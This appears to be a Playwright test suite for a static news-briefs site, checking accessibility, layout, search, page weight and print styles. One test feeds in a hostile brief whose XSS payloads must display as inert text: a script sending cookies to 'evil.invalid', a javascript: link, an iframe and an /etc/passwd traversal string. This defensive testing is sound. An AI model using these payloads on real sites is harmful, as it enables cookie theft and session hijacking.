"""The published site in Debian's Chromium: accessibility, layout, search, hostile text and page weight."""

import re
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe

from tests.paths import SAMPLE_DIR, SAMPLE_PAGE
from tests.sites import HOSTILE_BRIEF, SAMPLE_BRIEF, SPANISH_BRIEF, build, make_site

PAGES = {
    "home": "",
    "brief": SAMPLE_BRIEF.removesuffix("index.html"),
    "spanish-brief": SPANISH_BRIEF.removesuffix("index.html"),
    "topic-overview": "topics/",
    "topic": "topics/drug-policy/",
    "tag": "tags/ecuador/",
    "author": "authors/rosa-quintero/",
    "archive": "2015/",
    "search": "search/?q=ecuador",
}
WIDTHS = (360, 1280)
"""A small phone and a desktop screen, in CSS pixels."""
BUDGET = 25 * 1024
"""Bytes of HTML and CSS a brief page may weigh."""


def ready(tab) -> None:
    """Wait until a page shows what it is for: the search page its results."""
    if "/search/" in tab.url and "q=" in tab.url:
        tab.wait_for_selector("#search-results li")


def search_results(tab) -> list[tuple[str, str]]:
    tab.wait_for_function("() => /found/.test(document.getElementById('search-status').textContent)")
    links = tab.locator("#search-results .card-title a")
    return [(link.inner_text(), link.get_attribute("href")) for link in links.all()]


@pytest.mark.parametrize("name", PAGES)
def test_page_has_no_accessibility_violations_in_light_or_dark_mode(published_site, open_page, artefacts, name):
    tab = open_page(published_site(PAGES[name]))
    ready(tab)
    axe, reports = Axe(), []
    for scheme in ("light", "dark"):
        tab.emulate_media(color_scheme=scheme)
        results = axe.run(tab)
        if results.violations_count:
            reports.append(f"{scheme} mode: {results.generate_report()}")
    tab.screenshot(path=artefacts / f"{name}-1280-dark.png", full_page=True)
    assert reports == []


@pytest.mark.parametrize("name", PAGES)
def test_layout_fits_phone_and_desktop_screens_without_sideways_scrolling(published_site, open_page, artefacts, name):
    tab = open_page(published_site(PAGES[name]))
    ready(tab)
    for width in WIDTHS:
        tab.set_viewport_size({"width": width, "height": 900})
        tab.screenshot(path=artefacts / f"{name}-{width}.png", full_page=True)
        overflow = tab.evaluate("() => document.documentElement.scrollWidth - window.innerWidth")
        assert overflow <= 0, f"{name} is {overflow}px wider than a {width}px screen"
        # Every heading is on screen and readable: inside the screen's width, never squeezed to a sliver.
        boxes = tab.evaluate(
            "() => [...document.querySelectorAll('h1, h2, .card-title')].map(e => {"
            " const r = e.getBoundingClientRect(); return [e.textContent.trim(), r.left, r.right, r.width]; })"
        )
        for text, left, right, box_width in boxes:
            assert left >= 0 and right <= width and box_width > 100, (width, text, left, right)


def test_header_search_finds_the_sample_brief_by_a_word_of_its_body(published_site, open_page):
    tab = open_page(published_site())
    tab.fill("#site-search", "Serrano")
    tab.press("#site-search", "Enter")
    tab.wait_for_url(re.compile(r"/sub/search/\?q=Serrano$"))
    assert search_results(tab) == [
        ("Ecuador Shifts Security Focus to Microtrafficking", f"/sub/{PAGES['brief']}"),
    ]
    assert tab.inner_text("#search-status") == "1 brief found for “Serrano”."
    # The excerpt around the word, the word marked.
    assert "<mark>Serrano</mark>" in tab.inner_html("#search-results .summary")
    tab.click("#search-results a")
    tab.wait_for_url(published_site(PAGES["brief"]))
    assert tab.inner_text("h1") == "Ecuador Shifts Security Focus to Microtrafficking"


def test_search_finds_a_spanish_brief_by_another_form_of_its_word(published_site, open_page):
    tab = open_page(published_site("search/?q=decomiso"))
    results = search_results(tab)
    assert results == [
        ("La disputa por los puertos del Pacífico reordena el mapa criminal", f"/sub/{PAGES['spanish-brief']}")
    ]
    assert tab.get_attribute("#search-results li", "lang") == "es"


def test_search_reads_brief_bodies_only(published_site, open_page):
    tab = open_page(published_site("search/"))
    # Words of the site's header and footer, of the brief pages' own footers and of the attribution's
    # licence sentences (English and Spanish) are on every brief page, yet never found.
    for word in ("Skip", "Pelican", "Etiquetas", "Related", "Republished", "Reproducido"):
        tab.fill("#search-input", word)
        tab.press("#search-input", "Enter")
        tab.wait_for_function(
            "word => document.getElementById('search-status').textContent === `No briefs found for “${word}”.`",
            arg=word,
        )
        assert tab.locator("#search-results li").count() == 0, word


def test_search_narrows_to_a_topic(published_site, open_page):
    tab = open_page(published_site("search/?q=ecuador"))
    everywhere = {title for title, _ in search_results(tab)}
    assert "La disputa por los puertos del Pacífico reordena el mapa criminal" in everywhere
    tab.select_option("#search-topic", "Drug Policy")
    tab.wait_for_function("() => /in Drug Policy/.test(document.getElementById('search-status').textContent)")
    kickers = tab.locator("#search-results .kicker").all_inner_texts()
    assert kickers and all(kicker.endswith("DRUG POLICY") for kicker in kickers)
    assert tab.url.endswith("?q=ecuador&topic=Drug+Policy")


def test_search_works_in_the_preview_build_with_relative_links(served_test_site, open_page):
    tab = open_page(served_test_site("search/?q=Serrano"))
    assert search_results(tab) == [("Ecuador Shifts Security Focus to Microtrafficking", f"/{PAGES['brief']}")]


def test_hostile_page_runs_no_script_and_shows_the_attack_as_text(published_site, open_page):
    events = []
    tab = open_page("about:blank")
    tab.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"), dialog.dismiss()))
    tab.on("request", lambda request: events.append(f"request {request.url}"))
    tab.on("framenavigated", lambda frame: events.append(f"navigated {frame.url}"))
    url = published_site(HOSTILE_BRIEF.removesuffix("index.html"))
    tab.goto(url)
    tab.wait_for_timeout(300)
    assert tab.url == url
    assert tab.inner_text("h1") == "<script>alert('title')</script> Gang Leader Escapes"
    body = tab.inner_text(".brief-body")
    assert "<script>document.location='http://evil.invalid/?c='+document.cookie</script>" in body
    assert '[link](javascript:alert(1)) and <iframe src="http://evil.invalid"></iframe>' in body
    assert "{% raw %}{{ SITEURL }}{% endraw %} and {filename}/../../etc/passwd should stay text." in body
    # The page's only script element is its JSON-LD, data a browser never runs.
    assert (
        tab.locator("script:not([type='application/ld+json']), iframe, img, [onerror], [href^='javascript:']").count()
        == 0
    )
    assert tab.locator("script").count() == 1
    # Its title and summary in a list, and in search results built by the page's script.
    for path in ("", "search/?q=gang"):
        tab.goto(published_site(path))
        ready(tab)
        assert "<script>alert('title')</script> Gang Leader Escapes" in tab.inner_text("main")
    assert not [e for e in events if e.startswith("dialog")]
    # Only the pages the test opened (the search page rewrites its own address to the same URL).
    assert {e for e in events if e.startswith("navigated")} == {
        f"navigated {published_site(p)}" for p in (HOSTILE_BRIEF.removesuffix("index.html"), "", "search/?q=gang")
    }
    site_host = urlsplit(published_site.url).netloc
    assert [e for e in events if e.startswith("request") and urlsplit(e[8:]).netloc != site_host] == []


def test_brief_page_is_light_and_loads_no_script(published_site, open_page, artefacts):
    loaded = []
    tab = open_page("about:blank")
    tab.on("requestfinished", lambda request: loaded.append(request))
    tab.goto(published_site(PAGES["brief"]))
    tab.wait_for_load_state("networkidle")
    sizes = {r.url: (r.resource_type, len(r.response().body())) for r in loaded}
    html = sum(size for kind, size in sizes.values() if kind == "document")
    css = sum(size for kind, size in sizes.values() if kind == "stylesheet")
    (artefacts / "page-weight.txt").write_text(
        f"brief page: {html} bytes of HTML + {css} bytes of CSS = {html + css} bytes (budget {BUDGET})\n"
        + "".join(f"  {kind:<10} {size:>7}  {url}\n" for url, (kind, size) in sorted(sizes.items())),
        encoding="utf-8",
    )
    assert html + css <= BUDGET
    assert {kind for kind, _ in sizes.values()} == {"document", "stylesheet"}
    assert tab.locator("script:not([type='application/ld+json'])").count() == 0


@pytest.mark.parametrize("name", ["home", "topic", "tag", "author", "archive", "topic-overview"])
def test_pages_other_than_search_load_no_script(published_site, open_page, name):
    requested = []
    tab = open_page("about:blank")
    tab.on("request", lambda request: requested.append(request.resource_type))
    tab.goto(published_site(PAGES[name]))
    tab.wait_for_load_state("networkidle")
    assert "script" not in requested
    assert "fetch" not in requested


def test_search_page_loads_the_index_only_once_it_is_used(published_site, open_page):
    requested = []
    tab = open_page("about:blank")
    tab.on("request", lambda request: requested.append(request.url))
    tab.goto(published_site("search/"))
    tab.wait_for_load_state("networkidle")
    assert [url for url in requested if "/pagefind/" in url] == []
    tab.fill("#search-input", "cocaine")
    search_results(tab)
    assert f"{published_site.url}/pagefind/crimebriefs-parts.json" in requested
    assert f"{published_site.url}/pagefind/parts/1/pagefind.js" in requested


def test_dark_mode_follows_the_readers_system_setting_and_print_is_black_on_white(published_site, open_page):
    tab = open_page(published_site(PAGES["brief"]), scheme="dark")
    background = "() => getComputedStyle(document.body).backgroundColor"
    colour = "() => getComputedStyle(document.querySelector('.prose p:not(.crimebriefs-attribution)')).color"
    assert tab.evaluate(background) == "rgb(19, 20, 22)"
    tab.emulate_media(color_scheme="light")
    assert tab.evaluate(background) == "rgb(251, 250, 247)"
    tab.emulate_media(media="print", color_scheme="dark")
    assert (tab.evaluate(background), tab.evaluate(colour)) == ("rgb(255, 255, 255)", "rgb(0, 0, 0)")
    hidden = tab.evaluate(
        "() => ['.site-header', '.site-footer', '.topic-nav', '.related']"
        ".map(s => getComputedStyle(document.querySelector(s)).display)"
    )
    assert hidden == ["none"] * 4


def test_the_accessibility_check_finds_the_faults_of_pelicans_stock_theme(tmp_path, open_page):
    # The zero above is worth something only if axe, run this way, does report faults where they are.
    site = make_site(tmp_path, [SAMPLE_DIR / "sources.csv", SAMPLE_PAGE])
    with (site / "pelicanconf.py").open("a", encoding="utf-8") as conf:
        conf.write('\nTHEME = "notmyidea"\nCSS_FILE = "main.css"\nDIRECT_TEMPLATES = ["index"]\n')
    build(site)
    tab = open_page((site / "output" / "index.html").as_uri())
    found = {violation["id"] for violation in Axe().run(tab).response["violations"]}
    assert {"color-contrast", "landmark-one-main"} <= found
